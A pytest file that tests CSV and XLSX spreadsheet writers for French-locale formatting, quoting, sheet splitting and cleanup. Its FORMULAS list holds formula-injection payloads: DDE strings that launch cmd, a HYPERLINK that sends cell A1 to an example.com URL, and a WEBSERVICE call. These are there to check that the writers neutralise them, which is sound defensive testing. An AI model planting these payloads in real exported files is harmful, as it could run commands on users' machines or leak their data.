"""Tables for spreadsheets, read again by readers that are not ours: Python's csv and openpyxl."""

import asyncio
import csv
import tracemalloc
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from adapters.documents.csv import CsvWriter
from adapters.documents.xlsx import XlsxWriter
from core.documents.tables import CellKind, Column, Table, TableWriter
from core.primitives.locale import Locale

TABLE = Table(
    "Ventes [2026]: été/hiver",
    (
        Column("Nom", CellKind.TEXT, 30),
        Column("Nombre", CellKind.NUMBER, 10),
        Column("Montant", CellKind.AMOUNT, 18),
        Column("Taux", CellKind.PERCENT, 8),
        Column("Jour", CellKind.DAY, 12),
        Column("Moment", CellKind.MOMENT, 20),
        Column("En retard", CellKind.BOOLEAN, 8),
    ),
    ZoneInfo("Africa/Porto-Novo"),
)
MOMENT = datetime(2026, 12, 31, 23, 30, 5, 999_999, tzinfo=UTC)
ROW = ("Café « Ô » ; fin", 12, Decimal("1234567.80"), Decimal("66.7"), date(2026, 12, 31), MOMENT, True)
EMPTY = (None,) * 7

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"ici")',
    '=WEBSERVICE("http://example.com")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+229-97-00-00-00",
    "+1*2",
    "--1",
    "-A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\tbonjour",
    "-5 =1",
    "+22997000000=1",
    "-",
    "=",
)
HARMLESS = (
    "-5",
    "+12,50",
    "-0.75",
    "+2290197000000",
    "+229 01 97 00 00 00",
    "+229.97.00.00.00",
    "Café = thé",
    "a@example.com",
    "1-2",
    " bonjour",
    "'=déjà",
    "",
)


def left_in(folder: Path) -> set[str]:
    """What stands in a folder."""
    return {each.name for each in folder.iterdir()}


def _naive(*parts: int) -> datetime:
    """A moment as a spreadsheet holds it: without a zone."""
    return datetime(*parts)  # type: ignore[arg-type,misc]  # noqa: DTZ001


async def batches(*groups: Sequence[Sequence[Any]]) -> AsyncIterator[Sequence[Sequence[Any]]]:
    for group in groups:
        yield group


async def written(writer: TableWriter, path: Path, table: Table, *rows: Sequence[Any]) -> Path:
    file = path / f"table.{writer.ending}"
    assert await writer.write(file, table, batches(rows[:1], rows[1:])) == len(rows)
    return file


def texts(*values: str) -> tuple[Table, list[tuple[str]]]:
    return Table("Textes", (Column("Texte"),), ZoneInfo("UTC")), [(value,) for value in values]


def read_csv(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as opened:
        return list(csv.reader(opened, delimiter=";"))


async def test_csv_is_what_french_spreadsheets_read(tmp_path: Path) -> None:
    file = await written(CsvWriter(), tmp_path, TABLE, ROW, EMPTY)
    assert file.read_bytes().startswith(b"\xef\xbb\xbfNom;Nombre;")
    assert file.read_bytes().count(b"\r\n") == 3
    assert read_csv(file) == [
        [column.title for column in TABLE.columns],
        ["Café « Ô » ; fin", "12", "1234567,80", "66,7", "2026-12-31", "2027-01-01 00:30:05", "oui"],
        [""] * 7,
    ]


async def test_csv_quotes_what_would_break_a_row(tmp_path: Path) -> None:
    table, rows = texts('des "guillemets"', "deux\nlignes", "point;virgule", "retour\r\nchariot", "virgule,")
    assert read_csv(await written(CsvWriter(), tmp_path, table, *rows))[1:] == [list(row) for row in rows]


@pytest.mark.parametrize("text", FORMULAS)
async def test_csv_neutralises_what_a_spreadsheet_would_run(tmp_path: Path, text: str) -> None:
    table, rows = texts(text)
    assert read_csv(await written(CsvWriter(), tmp_path, table, *rows))[1:] == [[f"'{text}"]]


@pytest.mark.parametrize("text", HARMLESS)
async def test_csv_leaves_what_does_no_harm(tmp_path: Path, text: str) -> None:
    table, rows = texts(text)
    # a lone empty cell is quoted, or the line would be blank
    assert read_csv(await written(CsvWriter(), tmp_path, table, *rows))[1:] == [[text]]


async def test_csv_neutralises_titles(tmp_path: Path) -> None:
    table = Table("x", (Column("=1+1"), Column("-5")), ZoneInfo("UTC"))
    assert read_csv(await written(CsvWriter(), tmp_path, table)) == [["'=1+1", "-5"]]


async def test_csv_speaks_english(tmp_path: Path) -> None:
    table = Table("x", (Column("Late", CellKind.BOOLEAN),), ZoneInfo("UTC"), Locale.EN)
    assert read_csv(await written(CsvWriter(), tmp_path, table, (True,), (False,)))[1:] == [["yes"], ["no"]]


async def test_xlsx_cells_are_what_they_hold(tmp_path: Path) -> None:
    file = await written(XlsxWriter(), tmp_path, TABLE, ROW, EMPTY)
    sheet = openpyxl.load_workbook(file).active
    assert sheet is not None
    assert sheet.title == "Ventes  2026   été hiver"
    name, number, amount, rate, day, moment, late = sheet[2]
    assert [cell.data_type for cell in sheet[2]] == ["s", "n", "n", "n", "d", "d", "b"]
    assert (name.value, number.value, amount.value, rate.value) == ("Café « Ô » ; fin", 12, 1234567.8, 66.7)
    assert day.value == _naive(2026, 12, 31)
    assert moment.value == _naive(2027, 1, 1, 0, 30, 5)
    assert late.value is True
    assert (amount.number_format, day.number_format) == ("#,##0.00", "dd/mm/yyyy")
    assert [cell.value for cell in sheet[3]] == [None] * 7


async def test_xlsx_header_stays_in_sight(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(await written(XlsxWriter(), tmp_path, TABLE, ROW)).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G2"
    assert [cell.value for cell in sheet[1]] == [column.title for column in TABLE.columns]
    assert all(cell.font.bold for cell in sheet[1])
    assert [round(sheet.column_dimensions[letter].width) for letter in "ABC"] == [31, 11, 19]


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS[:-1], "http://example.com", "12", "2026-12-31", "_x0041_"])
async def test_xlsx_texts_are_texts(tmp_path: Path, text: str) -> None:
    table, rows = texts(text)
    sheet = openpyxl.load_workbook(await written(XlsxWriter(), tmp_path, table, *rows)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.hyperlink is None
    shown = openpyxl.utils.escape.unescape(cell.value) if "_x" in cell.value else cell.value
    assert shown.replace("\r", "\n") == text.replace("\r", "\n")


async def test_xlsx_writes_long_numbers_and_old_days_as_texts(tmp_path: Path) -> None:
    table = Table(
        "x", (Column("n", CellKind.AMOUNT), Column("d", CellKind.DAY), Column("m", CellKind.MOMENT)), ZoneInfo("UTC")
    )
    rows = [
        (Decimal("12345678901234.56"), date(1900, 1, 1), datetime(1899, 5, 6, 7, 8, tzinfo=UTC)),
        (Decimal("999999999999.99"), date(9998, 12, 31), datetime(1901, 1, 1, tzinfo=UTC)),
    ]
    sheet = openpyxl.load_workbook(await written(XlsxWriter(), tmp_path, table, *rows)).active
    assert sheet is not None
    assert [cell.value for cell in sheet[2]] == ["12345678901234.56", "1900-01-01", "1899-05-06 07:08:00"]
    assert [cell.value for cell in sheet[3]] == [999999999999.99, _naive(9998, 12, 31), _naive(1901, 1, 1)]


async def test_xlsx_goes_on_on_a_further_sheet(tmp_path: Path) -> None:
    table, rows = texts("un", "deux", "trois", "quatre", "cinq")
    book = openpyxl.load_workbook(await written(XlsxWriter(rows_of_a_sheet=3), tmp_path, table, *rows))
    assert book.sheetnames == ["Textes", "Textes (2)", "Textes (3)"]
    assert [[cell.value for cell in sheet["A"]] for sheet in book] == [
        ["Texte", "un", "deux"],
        ["Texte", "trois", "quatre"],
        ["Texte", "cinq"],
    ]
    assert all(sheet.freeze_panes == "A2" for sheet in book)


async def test_xlsx_cuts_what_a_cell_cannot_hold(tmp_path: Path) -> None:
    table, rows = texts("é" * 40_000)
    sheet = openpyxl.load_workbook(await written(XlsxWriter(), tmp_path, table, *rows)).active
    assert sheet is not None
    assert sheet["A2"].value == "é" * 32_767


@pytest.mark.parametrize("writer", [CsvWriter(), XlsxWriter()], ids=["csv", "xlsx"])
async def test_a_failing_source_leaves_nothing_open(tmp_path: Path, writer: TableWriter) -> None:
    table, rows = texts("un", "deux")

    async def breaking() -> AsyncIterator[Sequence[Sequence[Any]]]:
        yield rows
        raise LookupError("the source is gone")

    with pytest.raises(LookupError):
        await writer.write(tmp_path / "cut", table, breaking())
    assert left_in(tmp_path) <= {"cut"}


@pytest.mark.parametrize("writer", [CsvWriter(), XlsxWriter()], ids=["csv", "xlsx"])
async def test_writing_that_is_cancelled_leaves_nothing_open(tmp_path: Path, writer: TableWriter) -> None:
    table, rows = texts(*(str(number) for number in range(5000)))
    begun = asyncio.Event()

    async def endless() -> AsyncIterator[Sequence[Sequence[Any]]]:
        while True:
            begun.set()
            yield rows

    task = asyncio.create_task(writer.write(tmp_path / "cut", table, endless()))
    await begun.wait()
    await asyncio.sleep(0.01)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert left_in(tmp_path) <= {"cut"}


@pytest.mark.parametrize("writer", [CsvWriter(), XlsxWriter()], ids=["csv", "xlsx"])
async def test_memory_does_not_grow_with_the_rows(tmp_path: Path, writer: TableWriter) -> None:
    async def many(count: int) -> AsyncIterator[Sequence[Sequence[Any]]]:
        for _ in range(count):
            yield [ROW] * 500

    await writer.write(tmp_path / "warm", TABLE, many(1))
    peaks = []
    for count in (2, 12):
        tracemalloc.start()
        await writer.write(tmp_path / f"rows-{count}", TABLE, many(count))
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] + 300_000
